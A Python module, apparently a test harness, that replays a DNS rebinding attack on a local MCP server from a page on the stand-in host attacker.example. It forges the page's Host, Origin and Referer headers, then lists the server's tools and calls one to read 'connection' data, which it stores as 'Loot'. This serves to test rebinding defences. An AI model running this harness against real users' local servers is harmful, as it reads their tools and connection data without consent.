"""The attack, played without a browser: the requests that a rebound page would make.

1. You open ``http://attacker.example:8931/``. The name points at the attacker's server.
2. The name's next answer is 127.0.0.1. The page is still the same page, from the same origin.
3. The page asks its own origin, ``http://attacker.example:8931/mcp``, so no browser objects and
   it may read the answers. They come from the MCP server on your machine.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

import httpx2

ATTACKER = "attacker.example"

_VERSION = "2026-07-28"
_META = {
    "io.modelcontextprotocol/protocolVersion": _VERSION,
    "io.modelcontextprotocol/clientCapabilities": {},
}
STEPS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("server/discover", {}),
    ("tools/list", {}),
    ("tools/call", {"name": "lookup", "arguments": {"key": "connection"}}),
)
"""What the page asks for, in this order, until something is refused."""


@dataclass(frozen=True)
class Loot:
    """What the page got: the last status, the tools it saw, and the last answer's text."""

    status: int
    tools: tuple[str, ...]
    text: str


def page_headers(port: int, name: str = ATTACKER) -> dict[str, str]:
    """Return the headers a browser adds by itself to a POST by a page to its own origin.

    A script can set neither Host nor Origin (the Fetch standard's forbidden request headers).
    There is no ``Sec-Fetch-Site``: browsers send it only to addresses that count as trustworthy,
    https, localhost and 127.0.0.1, and a rebound name is none. All of it as seen from Chromium.
    """
    return {
        "Host": f"{name}:{port}",
        "Origin": f"http://{name}:{port}",
        "Referer": f"http://{name}:{port}/",
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
        "Accept-Language": "en-US,en;q=0.9",
    }


def script_request(number: int, method: str, params: dict[str, Any]) -> dict[str, Any]:
    """Return one step as the page's script states it: ``headers`` it may set, and the ``body``."""
    headers = {
        "Content-Type": "application/json",
        "Accept": "application/json, text/event-stream",
        "MCP-Protocol-Version": _VERSION,
        "Mcp-Method": method,
    }
    if "name" in params:
        headers["Mcp-Name"] = params["name"]
    message = {
        "jsonrpc": "2.0",
        "id": number,
        "method": method,
        "params": {**params, "_meta": _META},
    }
    return {"headers": headers, "body": json.dumps(message)}


async def rebound_requests(port: int, *, address: str = "127.0.0.1", name: str = ATTACKER) -> Loot:
    """Make the page's requests to the server on ``port`` and return what came of them.

    Raises httpx2.HTTPError where nothing answers.
    """
    tools: tuple[str, ...] = ()
    url = f"http://{address}:{port}/mcp"
    async with httpx2.AsyncClient(headers=page_headers(port, name), trust_env=False) as client:
        for number, (method, params) in enumerate(STEPS, start=1):
            request = script_request(number, method, params)
            answer = await client.post(url, headers=request["headers"], content=request["body"])
            if answer.status_code != httpx2.codes.OK:
                return Loot(answer.status_code, tools, answer.text.strip())
            result = answer.json()["result"]
            tools = tuple(tool["name"] for tool in result.get("tools", ())) or tools
    return Loot(answer.status_code, tools, result["content"][0]["text"])
